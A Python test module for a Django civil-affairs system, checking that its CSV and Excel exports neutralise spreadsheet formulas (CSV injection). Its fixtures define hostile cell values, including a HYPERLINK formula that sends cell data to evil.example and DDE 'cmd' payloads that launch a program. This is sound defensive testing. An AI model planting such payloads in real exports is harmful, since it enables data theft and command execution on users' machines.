"""No export carries a spreadsheet formula (OWASP CSV injection): hostile values are stored the way
a careless import or a malicious clerk would leave them, written through every export path, and
the files are checked cell by cell. Money columns stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal, InvalidOperation

import pytest
from openpyxl import load_workbook

from minzheng.core import sheets
from minzheng.eldercare import bookings
from minzheng.eldercare.models import Provider, ServiceItem
from minzheng.payments import payroll
from minzheng.payments.models import PayrollLine
from minzheng.people import exports
from minzheng.people import imports as people_imports
from minzheng.people.models import Person
from minzheng.regions.models import Region
from minzheng.targets import excel
from minzheng.targets.models import Plan, SupervisionCase, WorkItem
from minzheng.verification import imports as verification_imports
from tests.fixtures.eldercare import book, grade_two, serve, this_month
from tests.fixtures.payments import NOV, run_month
from tests.fixtures.verification import GOOD, HEADER, write_csv

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"张三")'
PLACE = "=cmd|' /C calc'!A0"
BANK = "@SUM(1+1)*cmd|' /C calc'!A0"
ITEM = "-2+3+cmd|' /C calc'!A0"
NOTE = "+1+1"
TABBED = "\t=1+1"


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def assert_csv_safe(body: bytes, *hostile: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    risky = [c for c in cells if c.startswith(sheets.FORMULA_STARTS) and not _is_number(c)]
    assert risky == []
    for value in hostile:
        assert "'" + value in cells, value
    return rows


def assert_xlsx_safe(body: bytes, *hostile: str):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets_xml = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets_xml and not any(re.search(rb"<f[ >]", xml) for xml in sheets_xml)
    book = load_workbook(io.BytesIO(body))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(sheets.FORMULA_STARTS)] == []
    for value in hostile:
        assert "'" + value.replace("\r", "\n") in texts, value
    return book


@pytest.mark.django_db
def test_people_export(people, users):
    zhang = Person.objects.get(name="张三")
    Person.objects.filter(pk=zhang.pk).update(name=NAME)
    Region.objects.filter(pk=zhang.hukou_region_id).update(name=PLACE)
    body = exports.export_people_xlsx(user=users["dongbao_clerk"])
    book = assert_xlsx_safe(body, NAME, PLACE)
    row = next(
        r for r in book.worksheets[0].iter_rows(min_row=2, values_only=True) if r[0] == "'" + NAME
    )
    assert row[4] == "'" + PLACE and row[1] == zhang.id_masked


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_payroll_bank_file(payments_world, payroll_beneficiaries, fmt):
    world = payments_world
    approver = world["users"]["dongbao_approver"]
    run = run_month(world, NOV)
    PayrollLine.objects.filter(run=run).update(payee_name=NAME, bank_name=BANK)
    Region.objects.filter(code="420802").update(name=TABBED)
    payroll.approve_payroll(user=approver, run=run)
    body, _name, _type = payroll.export_payroll(user=approver, run=run, fmt=fmt)
    if fmt == "csv":
        rows = assert_csv_safe(body, NAME, BANK, TABBED)
        assert sorted(r[8] for r in rows[1:]) == [
            "156.66",
            "480.00",
            "749.00",
        ]  # amounts written as numbers
    else:
        book = assert_xlsx_safe(body, NAME, BANK, TABBED)
        amounts = sorted(r[8].value for r in book.worksheets[0].iter_rows(min_row=2))
        assert amounts == [156.66, 480, 749]
        assert {r[8].data_type for r in book.worksheets[0].iter_rows(min_row=2)} == {"n"}


def test_booking_settlement(care, users):
    grade_two(users, care["mother"])
    booking = serve(care, book(care, users, care["items"]["cleaning"]))
    bookings.confirm(user=care["family"], booking=booking, rating=4)
    Person.objects.filter(pk=care["mother"].pk).update(name=NAME)
    Provider.objects.filter(pk=care["a"].pk).update(name=PLACE)
    ServiceItem.objects.filter(pk=care["items"]["cleaning"].pk).update(name=ITEM)
    settlement = bookings.build_settlement(
        user=care["provider_a"], provider=care["a"], month=this_month()
    )
    bookings.approve_settlement(user=users["dongbao_approver"], settlement=settlement)
    body, _name = bookings.export_settlement(user=users["dongbao_approver"], settlement=settlement)
    rows = assert_csv_safe(body, NAME, PLACE)
    line = rows[2]
    assert line[2] == "'" + NAME and line[4].endswith(ITEM)  # shown after its category: harmless
    assert line[6:9] == ["40.00", "20.00", "20.00"] and line[1] == booking.served_on.isoformat()


@pytest.mark.django_db
def test_target_plan_export_and_its_round_trip(plan_2016, users):
    plan = plan_2016
    Plan.objects.filter(pk=plan.pk).update(title=NAME)
    item = WorkItem.objects.filter(section__plan=plan).order_by("id").first()
    WorkItem.objects.filter(pk=item.pk).update(title=ITEM, description=NOTE)
    plan.refresh_from_db()
    body = excel.export_plan_xlsx(plan)
    assert_xlsx_safe(body, NAME, ITEM, NOTE)
    # Read back, the apostrophes come off again: the plan imports as it was.
    data = excel.read_plan_xlsx(body)
    assert data["title"] == NAME
    items = {i["title"]: i for s in data["sections"] for i in s["items"]}
    assert items[ITEM]["description"] == NOTE


def test_target_dashboard_export(client, targets_world):
    Region.objects.filter(code="420802").update(name=PLACE)
    SupervisionCase.objects.filter(pk=targets_world["zx_case"].pk).update(title=NAME)
    client.login(username="leader", password="pass-word-123")
    response = client.get("/targets/export.xlsx")
    assert response.status_code == 200
    book = assert_xlsx_safe(response.content, PLACE, NAME)
    summary = book["概况"]
    assert summary["A5"].value == "综合得分" and (
        summary["B5"].data_type == "n" or summary["B5"].value is None
    )
    assert summary["B5"].number_format == "0.00" and summary["B4"].number_format == "yyyy-mm-dd"


@pytest.mark.django_db
def test_verification_error_report(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    path = write_csv(
        tmp_path / "车辆.csv",
        HEADER,
        [
            [GOOD, "鄂H00001", "car", "1000", "2020-01-01", ""],
            [
                GOOD,
                "鄂H00002",
                NOTE,
                "1000",
                "2020-01-01",
                "",
            ],  # not a vehicle type: reported with its value
            [GOOD, PLACE, "car", "=1+1", "2020-01-01", ""],  # not an amount
        ],
    )
    batch = verification_imports.import_file(
        source="vehicles", path=path, as_of=dt.date(2024, 3, 31)
    )
    report = verification_imports.batch_path(batch).parent / f"{batch.pk}.errors.csv"
    assert_csv_safe(report.read_bytes(), NOTE, "=1+1")


def test_import_template_holds_no_formula():
    assert_xlsx_safe(people_imports.import_template_xlsx())
